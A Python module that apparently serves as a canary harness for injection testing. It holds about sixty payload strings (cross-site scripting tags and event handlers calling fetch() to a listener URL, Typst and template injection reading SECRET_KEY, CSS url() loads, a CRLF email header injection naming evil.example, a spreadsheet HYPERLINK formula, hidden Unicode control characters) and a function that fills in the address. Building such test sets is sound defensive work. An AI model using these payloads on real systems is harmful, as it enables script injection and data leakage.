"""Some sixty hostile words. Each names an address where a listener waits: whoever asks there took words for markup."""

from __future__ import annotations

TYPST = (
    '#import "{url}/a.typ": *',
    '#image("{url}/a.png")',
    '#link("{url}")[click]',
    '#read("{url}")',
    '#eval("#image(\\"{url}\\")")',
    '#include "{url}"',
    "#panic()",
    "#set page(width: 1pt)",
    "$ integral_0^1 x $ {url}",
    "```typ #read(1) ``` {url}",
    '#raw("x", lang: "{url}")',
    "<label> @label #cite(<label>) {url}",
)
MARKUP = (
    "<script>fetch('{url}')</script>",
    "</title><script src='{url}'></script>",
    "</textarea></script><script src={url}></script>",
    "<img src='{url}' onerror='fetch(\"{url}\")'>",
    '"><img src={url}>',
    "'><img src={url}>",
    "' onmouseover='fetch(`{url}`)' x='",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc='<script src={url}></script>'></iframe>",
    "<object data='{url}'></object><embed src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<base href='{url}/'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<body background='{url}' onload=fetch('{url}')>",
    "<table background='{url}'><td background='{url}'>",
    "<video poster='{url}' src='{url}' autoplay></video>",
    "<audio src='{url}' autoplay></audio>",
    "<input type=image src='{url}' autofocus onfocus=fetch('{url}')>",
    "<form action='{url}'><button>Go</button></form>",
    "<details open ontoggle=fetch('{url}')>x</details>",
    "<math><mtext><style><img src={url}></style></mtext></math>",
    "<!--><img src={url}>-->",
    "<![CDATA[<img src={url}>]]>",
    "<noscript><p title='</noscript><img src={url}>'>",
    "<template><img src={url}></template>",
    "&lt;img src={url}&gt; &#60;script src={url}&#62;",
)
VECTORS = (
    "<svg onload=fetch('{url}')><image href='{url}'/></svg>",
    "<svg><script href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><foreignObject><img src='{url}'/></foreignObject></svg>",
    "<svg><animate onbegin=fetch('{url}') attributeName=x dur=1s></svg>",
)
STYLES = (
    "<style>@import '{url}'; body{{background:url({url})}}</style>",
    "<p style=\"background:url('{url}')\">x</p>",
    "}}</style><style>*{{background:url({url})}}",
    "@font-face{{font-family:x;src:url({url})}}",
)
TEMPLATES = (
    "{{% include '{url}' %}} {{{{ settings.SECRET_KEY }}}}",
    "{{% load static %}}{{% debug %}} {url}",
    "{{{{ 7*7 }}}} ${{7*7}} <%= 7*7 %> #{{7*7}} {url}",
    "%(url)s %s %n {{0}} {{}} {url}",
)
CHARACTERS = (
    "\u202e{url}\u202c reversed \u2066x\u2069",
    "z\u200be\u200cr\u200do\u2060 {url}",
    "no\x00thing {url}",
    "bell\x07 escape\x1b[31m {url}",
    "\ufeff\ufffe {url}",
    "e" + "\u0301" * 60 + " {url}",
    '=HYPERLINK("{url}","x")',
    "x\r\nBcc: somebody@evil.example\r\n\r\n{url}",
    "[click]({url}) ![x]({url}) <{url}>",
    "W" * 180,
)


def payloads(url: str) -> list[str]:
    """All of them, each with its own number in the address."""
    found = (*TYPST, *MARKUP, *VECTORS, *STYLES, *TEMPLATES, *CHARACTERS)
    return [one.format(url=f"{url}/c{number}") for number, one in enumerate(found)]
